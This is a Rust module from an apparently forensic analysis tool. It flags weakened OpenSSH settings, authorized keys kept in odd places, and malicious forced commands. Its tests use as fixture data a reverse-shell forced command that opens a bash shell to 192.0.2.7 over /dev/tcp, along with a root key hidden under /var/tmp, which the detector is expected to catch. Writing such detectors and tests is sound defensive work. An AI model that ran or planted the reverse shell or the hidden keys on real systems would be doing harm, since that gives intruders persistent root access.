//! The OpenSSH server: settings that weaken authentication, authorized keys in places an
//! administrator would not put them, and forced commands that do something bad.

use super::common::*;
use super::userpersist::user_command_behaviour;
use crate::config::AnalysisConfig;
use crate::context::{At, Ctx, typed};
use crate::input::BundleInput;
use dossier_plugin_api::analysis::{Arg, Finding, Ioc, Message};
use dossier_plugin_api::records::{
    AuthorizedKeyRecord, AuthorizedKeysFileRecord, SshdConfigRecord,
};

const DEFAULT_PATTERNS: &[&str] = &[
    ".ssh/authorized_keys",
    ".ssh/authorized_keys2",
    "%h/.ssh/authorized_keys",
    "%h/.ssh/authorized_keys2",
];

fn config(input: &BundleInput<'_>) -> Option<At<SshdConfigRecord>> {
    typed(input, "sshd", "sshd_config").into_iter().next()
}

fn cfg_ev(
    ctx: &Ctx,
    c: &At<SshdConfigRecord>,
    file: &str,
) -> Vec<dossier_plugin_api::analysis::Evidence> {
    let src = c.rec.sources.iter().find(|s| s.path == file);
    ctx.ev(
        c,
        crate::context::what("evidence.sshd-configuration", &[("file", &file)]),
        src,
    )
}

/// Why a key file's place is odd: a world-writable file or directory, a `/tmp`-like or
/// hidden location (the account's `.ssh` directory is where keys belong).
pub fn odd_key_location(f: &AuthorizedKeysFileRecord) -> Option<Message> {
    if f.meta.as_ref().is_some_and(|m| m.mode & 0o002 != 0) {
        return Some(Message::new("reason.sshd.file-world-writable"));
    }
    if f.dir_meta
        .as_ref()
        .is_some_and(|m| m.mode & 0o002 != 0 && m.mode & 0o1000 == 0)
    {
        return Some(Message::new("reason.sshd.dir-world-writable"));
    }
    let without_ssh: String = f
        .path
        .split('/')
        .filter(|c| *c != ".ssh")
        .collect::<Vec<_>>()
        .join("/");
    unusual_location_msg(&without_ssh)
}

/// [`sshd_keys_location_findings`], each with the fact it reports.
pub(crate) fn sshd_keys_location(
    ctx: &Ctx,
    cfg: &AnalysisConfig,
    input: &mut BundleInput<'_>,
) -> Vec<Finding> {
    facts_by_subject(sshd_keys_location_findings(ctx, cfg, input), "keys-file")
}

fn sshd_keys_location_findings(
    ctx: &Ctx,
    _: &AnalysisConfig,
    input: &mut BundleInput<'_>,
) -> Vec<Finding> {
    let files: Vec<At<AuthorizedKeysFileRecord>> = typed(input, "sshd", "authorized_keys_file");
    let keys: Vec<At<AuthorizedKeyRecord>> = typed(input, "sshd", "authorized_key");
    let mut out = Vec::new();
    for f in files
        .iter()
        .filter(|f| f.rec.keys > 0 && (f.rec.read_by_sshd || f.rec.match_only))
    {
        let mine: Vec<&At<AuthorizedKeyRecord>> =
            keys.iter().filter(|k| k.rec.file == f.rec.path).collect();
        let why = if let Some(why) = odd_key_location(&f.rec) {
            Message::new("reason.sshd.keys-read-there")
                .text("pattern", &f.rec.pattern)
                .msg("why", why)
        } else if f.rec.path.ends_with("/authorized_keys2") {
            let main = format!(
                "{}authorized_keys",
                f.rec.path.trim_end_matches("authorized_keys2")
            );
            let extra: Vec<&str> = mine
                .iter()
                .filter(|k| {
                    !keys.iter().any(|o| {
                        o.rec.file == main
                            && o.rec.user == k.rec.user
                            && o.rec.fingerprint == k.rec.fingerprint
                    })
                })
                .filter_map(|k| k.rec.fingerprint.as_deref())
                .collect();
            if extra.is_empty() {
                continue;
            }
            Message::new("reason.sshd.legacy-keys2").text("fingerprints", extra.join(", "))
        } else {
            continue;
        };
        let mut iocs = vec![Ioc::Path(f.rec.path.clone())];
        iocs.extend(
            mine.iter()
                .filter_map(|k| k.rec.fingerprint.clone())
                .map(Ioc::ConfigLine),
        );
        let mut ev = ctx.ev(
            f,
            crate::context::what("evidence.authorized-keys-file", &[("path", &f.rec.path)]),
            f.rec.source.as_ref(),
        );
        ev.extend(mine.iter().flat_map(|k| {
            ctx.ev(
                k,
                crate::context::what(
                    "evidence.key",
                    &[("file", &k.rec.file), ("line", &k.rec.line)],
                ),
                None,
            )
        }));
        out.push(explained(
            f.rec.path.clone(),
            Message::new("finding.sshd.keys-location")
                .text("keys", f.rec.keys)
                .text("user", &f.rec.user)
                .text("path", &f.rec.path)
                .msg("why", why),
            ev,
            iocs,
        ));
    }
    if let Some(c) = config(input) {
        if let Some(cmd) = c
            .rec
            .get("authorizedkeyscommand")
            .filter(|s| !s.value.eq_ignore_ascii_case("none"))
        {
            let prog = cmd.value.split_whitespace().next().unwrap_or_default();
            if let Some(why) = unusual_location_msg(prog) {
                out.push(explained(
                    format!("{}:{}", cmd.file, cmd.line),
                    Message::new("finding.sshd.keys-command-unusual")
                        .text("command", &cmd.value)
                        .text("file", &cmd.file)
                        .text("line", cmd.line)
                        .msg("why", why),
                    cfg_ev(ctx, &c, &cmd.file),
                    vec![
                        Ioc::ConfigLine(format!("AuthorizedKeysCommand {}", cmd.value)),
                        Ioc::Path(prog.to_string()),
                    ],
                ));
            }
        }
    }
    out
}

pub(crate) fn sshd_forced_command(
    ctx: &Ctx,
    _: &AnalysisConfig,
    input: &mut BundleInput<'_>,
) -> Vec<Finding> {
    let keys: Vec<At<AuthorizedKeyRecord>> = typed(input, "sshd", "authorized_key");
    keys.iter()
        .filter(|k| k.rec.read_by_sshd)
        .filter_map(|k| {
            let cmd = k.rec.command.as_deref()?;
            let why = user_command_behaviour(cmd)?;
            let from = k.rec.from.as_deref().map_or(Arg::Text(String::new()), |f| {
                Message::new("reason.sshd.accepted-from")
                    .text("from", f)
                    .into()
            });
            let m = Message::new("finding.sshd.forced-command")
                .text("fingerprint", k.rec.fingerprint.as_deref().unwrap_or("?"))
                .text("user", &k.rec.user)
                .text("file", &k.rec.file)
                .text("line", k.rec.line)
                .text("command", cmd)
                .msg("why", why);
            Some(explained(
                format!("{}:{}", k.rec.file, k.rec.line),
                with_arg(m, "from", from),
                ctx.ev(
                    k,
                    crate::context::what(
                        "evidence.key",
                        &[("file", &k.rec.file), ("line", &k.rec.line)],
                    ),
                    Some(&k.rec.source),
                ),
                vec![
                    Ioc::Path(k.rec.file.clone()),
                    Ioc::ConfigLine(cmd.to_string()),
                ],
            ))
        })
        .collect()
}

pub(crate) fn sshd_empty_passwords(
    ctx: &Ctx,
    _: &AnalysisConfig,
    input: &mut BundleInput<'_>,
) -> Vec<Finding> {
    let Some(c) = config(input) else {
        return vec![];
    };
    let mut out = Vec::new();
    let global = c
        .rec
        .get("permitemptypasswords")
        .filter(|s| s.value.eq_ignore_ascii_case("yes"));
    let matched = c.rec.match_blocks.iter().flat_map(|b| {
        b.settings
            .iter()
            .filter(|s| s.keyword == "permitemptypasswords" && s.value.eq_ignore_ascii_case("yes"))
            .map(move |s| (s, Some(b.criteria.as_str())))
    });
    for (s, criteria) in global.map(|s| (s, None)).into_iter().chain(matched) {
        let scope = criteria.map_or(Arg::Text(String::new()), |c| {
            Message::new("reason.sshd.match-scope")
                .text("criteria", c)
                .into()
        });
        let m = Message::new("finding.sshd.empty-passwords")
            .text("file", &s.file)
            .text("line", s.line);
        out.push(explained(
            format!("{}:{}", s.file, s.line),
            with_arg(m, "scope", scope),
            cfg_ev(ctx, &c, &s.file),
            vec![Ioc::ConfigLine("PermitEmptyPasswords yes".into())],
        ));
    }
    out
}

pub(crate) fn sshd_root_password_login(
    ctx: &Ctx,
    _: &AnalysisConfig,
    input: &mut BundleInput<'_>,
) -> Vec<Finding> {
    let Some(c) = config(input) else {
        return vec![];
    };
    let Some(root) = c
        .rec
        .get("permitrootlogin")
        .filter(|s| s.value.eq_ignore_ascii_case("yes"))
    else {
        return vec![];
    };
    let pw = c.rec.get("passwordauthentication");
    if pw.is_some_and(|s| !s.value.eq_ignore_ascii_case("yes")) {
        return vec![];
    }
    // No password to guess: the weakening is moot.
    let root_pw = ctx
        .accounts
        .iter()
        .find(|a| a.rec.uid == 0 && a.rec.name == "root");
    if root_pw.is_some_and(|a| matches!(a.rec.password.as_str(), "locked" | "disabled")) {
        return vec![];
    }
    let pw_text = match pw {
        Some(s) => Message::new("reason.sshd.password-auth-set")
            .text("file", &s.file)
            .text("line", s.line),
        None => Message::new("reason.sshd.password-auth-default"),
    };
    let mut ev = cfg_ev(ctx, &c, &root.file);
    if let Some(s) = pw {
        ev.extend(cfg_ev(ctx, &c, &s.file));
        ev.dedup_by(|a, b| a.member == b.member && a.line == b.line);
    }
    let root_has = root_pw.map_or(Arg::Text(String::new()), |a| {
        Message::new("reason.sshd.root-has")
            .msg("password", super::accounts::password_msg(&a.rec.password))
            .into()
    });
    let m = Message::new("finding.sshd.root-password-login")
        .text("file", &root.file)
        .text("line", root.line)
        .msg("password_auth", pw_text);
    vec![explained(
        format!("{}:{}", root.file, root.line),
        with_arg(m, "root_has", root_has),
        ev,
        vec![Ioc::ConfigLine("PermitRootLogin yes".into())],
    )]
}

pub(crate) fn sshd_keys_context(
    ctx: &Ctx,
    _: &AnalysisConfig,
    input: &mut BundleInput<'_>,
) -> Vec<Finding> {
    let mut out = Vec::new();
    let files: Vec<At<AuthorizedKeysFileRecord>> = typed(input, "sshd", "authorized_keys_file");
    for f in files.iter().filter(|f| f.rec.keys > 0) {
        let what = if !f.rec.read_by_sshd && !f.rec.match_only {
            Message::new("reason.sshd.not-named")
        } else if !DEFAULT_PATTERNS.contains(&f.rec.pattern.as_str()) {
            Message::new("reason.sshd.added-location").text("pattern", &f.rec.pattern)
        } else {
            continue;
        };
        out.push(explained(
            f.rec.path.clone(),
            Message::new("finding.sshd.keys-context")
                .text("path", &f.rec.path)
                .text("keys", f.rec.keys)
                .text("user", &f.rec.user)
                .msg("what", what),
            ctx.ev(
                f,
                crate::context::what("evidence.authorized-keys-file", &[("path", &f.rec.path)]),
                f.rec.source.as_ref(),
            ),
            vec![Ioc::Path(f.rec.path.clone())],
        ));
    }
    if let Some(c) = config(input) {
        if let Some(cmd) = c
            .rec
            .get("authorizedkeyscommand")
            .filter(|s| !s.value.eq_ignore_ascii_case("none"))
        {
            out.push(explained(
                format!("{}:{}", cmd.file, cmd.line),
                Message::new("finding.sshd.keys-command")
                    .text("command", &cmd.value)
                    .text("file", &cmd.file)
                    .text("line", cmd.line),
                cfg_ev(ctx, &c, &cmd.file),
                vec![],
            ));
        }
    }
    out
}

#[cfg(test)]
mod tests {
    use crate::config::AnalysisConfig;
    use crate::engine::analyze;
    use crate::testkit::input;
    use serde_json::json;
    use std::collections::BTreeMap;

    fn rules(
        sshd: Vec<serde_json::Value>,
        accounts: Vec<serde_json::Value>,
    ) -> Vec<(String, String)> {
        let mut r = BTreeMap::new();
        r.insert(
            "sshd".to_string(),
            sshd.into_iter()
                .enumerate()
                .map(|(i, v)| (i + 1, v))
                .collect(),
        );
        if !accounts.is_empty() {
            r.insert(
                "accounts".to_string(),
                accounts
                    .into_iter()
                    .enumerate()
                    .map(|(i, v)| (i + 1, v))
                    .collect(),
            );
        }
        let mut read = |_: &str, _: u64| -> Result<Vec<u8>, String> { Err("none".into()) };
        let mut inp = input(r, &mut read);
        let a = analyze(&mut inp, &AnalysisConfig::default());
        a.findings
            .iter()
            .chain(&a.context)
            .filter(|f| f.rule.starts_with("sshd"))
            .map(|f| (f.rule.clone(), f.subject.clone()))
            .collect()
    }

    fn cfg(settings: &[(&str, &str)]) -> serde_json::Value {
        let s: Vec<_> = settings
            .iter()
            .enumerate()
            .map(|(i, (k, v))| json!({"keyword": k, "value": v, "file": "/etc/ssh/sshd_config.d/50.conf", "line": i + 1}))
            .collect();
        json!({"kind": "sshd_config", "settings": s, "authorized_keys_files": [".ssh/authorized_keys"], "default_keys_files": false, "sources": []})
    }

    fn keyfile(path: &str, pattern: &str, read: bool, dir_mode: u32) -> serde_json::Value {
        json!({"kind": "authorized_keys_file", "user": "root", "uid": 0, "path": path, "pattern": pattern, "read_by_sshd": read, "keys": 1,
               "dir_meta": {"kind": "dir", "mode": dir_mode, "uid": 0, "gid": 0, "size": 0}})
    }

    fn key(path: &str, fp: &str, command: Option<&str>) -> serde_json::Value {
        json!({"kind": "authorized_key", "user": "root", "uid": 0, "file": path, "line": 1, "key_type": "ssh-ed25519", "fingerprint": fp,
               "command": command, "read_by_sshd": true, "source": {"path": path}})
    }

    #[test]
    fn weakenings_and_odd_keys_are_behaviour_hardening_is_nothing() {
        let got = rules(
            vec![
                cfg(&[("permitrootlogin", "yes"), ("permitemptypasswords", "yes")]),
                keyfile("/var/tmp/.k/root", "/var/tmp/.k/%u", true, 0o755),
                key("/var/tmp/.k/root", "SHA256:a", None),
                keyfile(
                    "/root/.ssh/authorized_keys2",
                    ".ssh/authorized_keys2",
                    true,
                    0o700,
                ),
                key("/root/.ssh/authorized_keys2", "SHA256:b", None),
                keyfile(
                    "/root/.ssh/authorized_keys",
                    ".ssh/authorized_keys",
                    true,
                    0o700,
                ),
                key(
                    "/root/.ssh/authorized_keys",
                    "SHA256:c",
                    Some("bash -i >& /dev/tcp/192.0.2.7/443 0>&1"),
                ),
            ],
            vec![
                json!({"kind": "account", "name": "root", "uid": 0, "gid": 0, "home": "/root", "shell": "/bin/bash", "password": "usable", "line": 1, "source": {"path": "/etc/passwd"}}),
            ],
        );
        let has = |r: &str, s: &str| got.iter().any(|(a, b)| a == r && b == s);
        assert!(
            has("sshd-authorized-keys-location", "/var/tmp/.k/root"),
            "{got:?}"
        );
        assert!(
            has(
                "sshd-authorized-keys-location",
                "/root/.ssh/authorized_keys2"
            ),
            "{got:?}"
        );
        assert!(
            has("sshd-forced-command", "/root/.ssh/authorized_keys:1"),
            "{got:?}"
        );
        assert!(
            has("sshd-empty-passwords", "/etc/ssh/sshd_config.d/50.conf:2"),
            "{got:?}"
        );
        assert!(
            has(
                "sshd-root-password-login",
                "/etc/ssh/sshd_config.d/50.conf:1"
            ),
            "{got:?}"
        );

        // A hardening drop-in, a restricted rrsync key, authorized_keys2 sshd no longer reads,
        // central keys in a root-owned directory: no behaviour.
        let got = rules(
            vec![
                cfg(&[
                    ("permitrootlogin", "prohibit-password"),
                    ("passwordauthentication", "no"),
                    ("permitemptypasswords", "no"),
                ]),
                keyfile(
                    "/root/.ssh/authorized_keys",
                    ".ssh/authorized_keys",
                    true,
                    0o700,
                ),
                key(
                    "/root/.ssh/authorized_keys",
                    "SHA256:c",
                    Some("/usr/bin/rrsync -ro /srv/backup"),
                ),
                keyfile(
                    "/root/.ssh/authorized_keys2",
                    ".ssh/authorized_keys2",
                    false,
                    0o700,
                ),
                key("/root/.ssh/authorized_keys2", "SHA256:d", None),
                keyfile("/etc/ssh/keys/root", "/etc/ssh/keys/%u", true, 0o755),
                key("/etc/ssh/keys/root", "SHA256:e", None),
            ],
            vec![],
        );
        let behaviour: Vec<_> = got
            .iter()
            .filter(|(r, _)| r != "sshd-keys-context")
            .collect();
        assert!(behaviour.is_empty(), "{behaviour:?}");
        assert_eq!(got.len(), 2, "{got:?}");
        // PermitRootLogin yes with a locked root password: nothing to guess.
        let got = rules(
            vec![cfg(&[("permitrootlogin", "yes")])],
            vec![
                json!({"kind": "account", "name": "root", "uid": 0, "gid": 0, "home": "/root", "shell": "/bin/bash", "password": "locked", "line": 1, "source": {"path": "/etc/passwd"}}),
            ],
        );
        assert!(got.is_empty(), "{got:?}");
    }
}
